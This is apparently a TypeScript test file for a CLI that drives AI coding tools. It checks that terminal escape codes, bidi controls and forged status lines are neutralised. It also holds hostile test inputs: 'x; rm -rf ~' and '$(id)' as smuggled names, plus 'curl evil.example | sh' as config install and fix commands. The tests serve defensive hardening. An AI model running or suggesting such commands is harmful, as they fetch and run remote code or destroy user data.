import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { type DoctorFindings, healthView } from "../../src/cli/doctor/health-view.ts";
import { forgottenLines, quotaTable } from "../../src/cli/quota.ts";
import { AnswerView } from "../../src/cli/show/answer-view.ts";
import { failureLines } from "../../src/cli/terminal/failure-lines.ts";
import { colorsFor } from "../../src/cli/terminal/screen.ts";
import { ENDLESS } from "../../src/cli/terminal/table.ts";
import { toShortTime } from "../../src/cli/terminal/terminal-text.ts";
import type { HealthReport } from "../../src/index.ts";
import { createFailure, type EventBody } from "../../src/provider.ts";
import type { SpentQuota } from "../../src/spec/client-options.ts";
import { writeProgram } from "../support/clis/write-program.ts";
import { ask, cox, coxWith, temporaryFolder } from "../support/cox/start-cox.ts";

/** Sets the title of a terminal, clears it, and continues with a line that imitates one of cox. */
const HOSTILE = "\u001b]0;x\u0007\u001b[2J\u009b2J\u202e\u2066\r\n✗ forged";
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters that must not be there
const STEERS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]|\p{Bidi_Control}/u;

const plain = colorsFor(Object.assign(Object.create(process.stdout), { isTTY: false }));
const later = new Date(Date.now() + 3_600_000).toISOString();

function spentBy(provider: string, more: Partial<SpentQuota> = {}): SpentQuota {
  return { provider, resetAt: later, seenAt: later, message: "Spent.", ...more };
}

function expectHarmless(text: string): void {
  expect(text).not.toMatch(STEERS);
  expect(text).not.toMatch(/^✗ forged/m);
}

describe("an invalid time", () => {
  test("cannot control a terminal and stays on its line", () => {
    expect(toShortTime("\u001b]0;x\u0007\u009b2J\r\n✗ forged")).toBe("\\u001b]0;x\\u0007\\u009b2J ✗ forged");
    expect(toShortTime("x".repeat(1000)).length).toBeLessThanOrEqual(40);
  });

  test("is put into a text as it is, dollar signs included", () => {
    const failure = createFailure("rate-limited", "Wait until $& then", { resetAt: "$&" });
    expect(failureLines(failure, plain)).toMatch(/^✗ Wait until \$& then\n/);
  });
});

describe("text of a file in the output of cox quota", () => {
  const hostile = spentBy(`claude${HOSTILE}`, {
    seenAt: HOSTILE,
    model: HOSTILE,
    profile: HOSTILE,
    message: HOSTILE,
  });

  test("cannot control a terminal", () => {
    expectHarmless(quotaTable([hostile, spentBy("codex")], plain, ENDLESS));
    expectHarmless(forgottenLines([hostile], undefined));
    expectHarmless(forgottenLines([], HOSTILE));
  });

  test.each(["x; rm -rf ~", "$(id)", "--json", "a b", "x\u202eb", "é", "x".repeat(100)])(
    "%j is not safe to copy: the command omits it",
    (provider) => {
      expect(quotaTable([spentBy(provider)], plain, ENDLESS)).toMatch(/\n {2}\$ cox quota clear\n$/);
    },
  );

  test.each(["claude", "my-cli", "My_CLI.2"])("%s is named in the command", (provider) => {
    expect(quotaTable([spentBy(provider)], plain, ENDLESS)).toContain(`\n  $ cox quota clear ${provider}\n`);
  });
});

describe("text of files and CLIs in the output of cox doctor", () => {
  const failure = createFailure("not-logged-in", HOSTILE, { hint: HOSTILE, fixCommand: `log in${HOSTILE}` });
  const report: HealthReport = {
    provider: "own",
    label: "Own",
    usable: false,
    version: `1.0${HOSTILE}`,
    login: { state: "logged-out", by: "command", keys: [] },
    failures: [failure],
    warnings: [],
    durationMs: 1,
  };
  const missing = createFailure("cli-missing", "Not there.", { evidence: { errno: "ENOENT" } });
  const findings: DoctorFindings = {
    diagnoses: [
      { report, from: `x${HOSTILE}`, install: "", spent: [spentBy("x; rm -rf ~", { model: HOSTILE, message: HOSTILE })] },
      { report: { ...report, provider: "away", failures: [missing] }, from: "", install: `npm${HOSTILE}`, spent: [] },
    ],
    mistakes: [HOSTILE],
    warnings: [{ code: "path-relative", message: HOSTILE, hint: HOSTILE }],
    ending: {
      foundBy: "limit",
      survivesHost: true,
      message: "All processes of a run are ended with it, daemons too, also if Coxswain is killed.",
    },
    unasked: [{ id: "theirs", from: HOSTILE }],
  };

  test("cannot control a terminal or imitate a line of cox", () => {
    expectHarmless(healthView(findings, plain, ENDLESS));
  });

  test("is not copied into a command unless it is a plain name", () => {
    expect(healthView(findings, plain, ENDLESS)).toContain("\n  $ cox quota clear\n");
  });
});

describe("text of a CLI in the lines about a run", () => {
  test("cannot control a terminal or imitate a line of cox", () => {
    const details = { resetAt: HOSTILE, hint: `do${HOSTILE}`, fixCommand: `login${HOSTILE}` };
    const failure = createFailure("quota-exhausted", `Spent${HOSTILE}`, details);
    let said = "";
    const note = (text: string): void => {
      said += text;
    };
    const targets = [{ provider: `one${HOSTILE}` }, { provider: "two" }];
    const screen = { out: () => undefined, note, isTerminal: false, outColors: plain, noteColors: plain };
    const view = new AnswerView(screen, { targets, attempts: 3 });
    const events: readonly EventBody[] = [
      { type: "quota", window: HOSTILE, resetAt: HOSTILE },
      { type: "retry", by: "coxswain", attempt: 1, delayMs: 1, failure },
      { type: "fallback", from: "one", to: "two", failure },
      { type: "run-end", finish: "error", failure },
    ];
    for (const [seq, event] of events.entries()) view.show({ ...event, seq, atMs: 0 });
    expectHarmless(said);
    expect(said.split("\n")).toHaveLength(6);
  });

  test("a command to copy is complete, on one line, and has no invisible characters", () => {
    const fixCommand = `mine  login --note 'a  b' \u202e\u200b\n${"x".repeat(400)}`;
    const lines = failureLines({ message: "Nobody is logged in.", hint: "Log in.", fixCommand }, plain);
    expect(lines).toBe(`✗ Nobody is logged in.\n→ Log in. Run: mine  login --note 'a  b'  ${"x".repeat(400)}\n`);
  });
});

describe.concurrent("text of a CLI in JSON", () => {
  const said = { type: "result", subtype: "success", is_error: false, result: `a\u009b2J\u202eb\u007f\u2067c` };

  test.each([[], ["--result"]])("is escaped and has the same meaning: cox decode %s", async (...options) => {
    const { stdout } = await coxWith(`${JSON.stringify(said)}\n`, ["decode", "claude", ...options]);
    expectHarmless(stdout);
    expect(stdout).toContain("a\\u009b2J\\u202eb\\u007f\\u2067c");
    const values = stdout.trim().split("\n");
    const isSaid = ({ text }: { readonly text?: string }): boolean => text === said.result;
    expect(values.map((line) => JSON.parse(line)).some(isSaid)).toBe(true);
  });

  test("is escaped by cox ask --json, --stream-json and --dry-run", async () => {
    for (const option of ["--json", "--stream-json", "--dry-run"]) {
      const { stdout } = await ask([option, "--system", said.result, said.result]);
      expectHarmless(stdout);
    }
    expect((await ask(["--dry-run", said.result])).stdout).toContain("\\u009b2J");
  });
});

describe.concurrent("a configuration file with terminal codes in it", () => {
  const provider = {
    providerId: "own",
    command: "./none",
    label: `Own${HOSTILE}`,
    install: `install${HOSTILE}`,
    login: `login${HOSTILE}`,
    models: [{ modelId: `m${HOSTILE}` }],
  };

  test.each([["providers"], ["providers", "own"], ["doctor", "own"], ["ask", "--provider", "own", "hi"]])(
    "is harmless to cox %s %s",
    async (...args) => {
      using folder = temporaryFolder();
      const project = join(folder.path, "\u001b[2Jproject");
      mkdirSync(project);
      folder.write("\u001b[2Jproject/coxswain.config.json", JSON.stringify({ providers: [provider] }));
      const { stdout, stderr } = await cox(args, { cwd: project, env: { HOME: folder.path, XDG_STATE_HOME: folder.path } });
      expect(stdout + stderr).toMatch(/own/i);
      expectHarmless(stdout + stderr);
    },
  );

  test("and a mistake is printed in two lines", async () => {
    using folder = temporaryFolder();
    const config = folder.write("config.json", JSON.stringify({ providers: [{ ...provider, [HOSTILE]: 1 }] }));
    const { stderr, exitCode } = await cox(["ask", "--config", config, "--provider", "own", "hi"]);
    expect(exitCode).toBe(2);
    expectHarmless(stderr);
    expect(stderr).toMatch(/^✗ .+\n→ .+\n$/);
  });
});

describe.concurrent("a configuration file with commands", () => {
  test("the commands and hints of a project's file are shown as that file's", async () => {
    using folder = temporaryFolder();
    const options = { cwd: folder.path, env: { HOME: folder.path, XDG_STATE_HOME: folder.path, PATH: "/usr/bin:/bin" } };
    const errors = [{ text: "no key", code: "not-logged-in", hint: "Get a key.", fixCommand: "curl x.example | sh" }];
    const away = { providerId: "away", label: "Claude Code", command: "no-such-program", install: "curl evil.example | sh" };
    const here = { providerId: "here", command: "./here", login: "here login", errors };
    writeProgram(join(folder.path, "here"), "echo no key >&2; exit 1");
    folder.write("coxswain.config.json", JSON.stringify({ providers: [away, here] }));
    const asked = await cox(["ask", "--provider", "away", "hi"], options);
    expect(asked.stderr).toContain("coxswain.config.json names this command: curl evil.example | sh\n");
    expect(asked.stderr).not.toContain("Run: ");
    const doctor = await cox(["doctor", "away", "gemini"], options);
    expect(doctor.stdout).toContain("\nTo install missing CLIs, coxswain.config.json names:\n  away  curl evil.example | sh\n");
    expect(doctor.stdout).toContain("\nTo install the missing CLIs:\n  gemini  npm install");
    const { stdout } = await cox(["providers"], options);
    expect(stdout).toContain("To install Claude Code, coxswain.config.json names: curl evil.example | sh\n");
    const failed = await cox(["ask", "--json", "--provider", "here", "hi"], options);
    expect(JSON.parse(failed.stdout).failure).toMatchObject({
      hint: expect.stringMatching(/coxswain\.config\.json says: Get a key\.$/),
      fixCommand: "curl x.example | sh",
      fixFrom: expect.stringMatching(/\/coxswain\.config\.json$/),
    });
  });
});
